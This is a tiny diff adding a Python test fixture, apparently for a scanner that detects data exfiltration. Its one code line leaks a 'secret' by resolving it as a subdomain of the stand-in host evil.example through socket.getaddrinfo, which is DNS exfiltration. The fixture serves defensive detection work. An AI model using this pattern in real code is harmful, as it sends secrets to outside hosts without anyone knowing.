@@ -1,0 +1,4 @@
+# expect: urlopen | getaddrinfo exfil
+import socket
+secret = "abc"
+socket.getaddrinfo(secret + ".evil.example", 80)
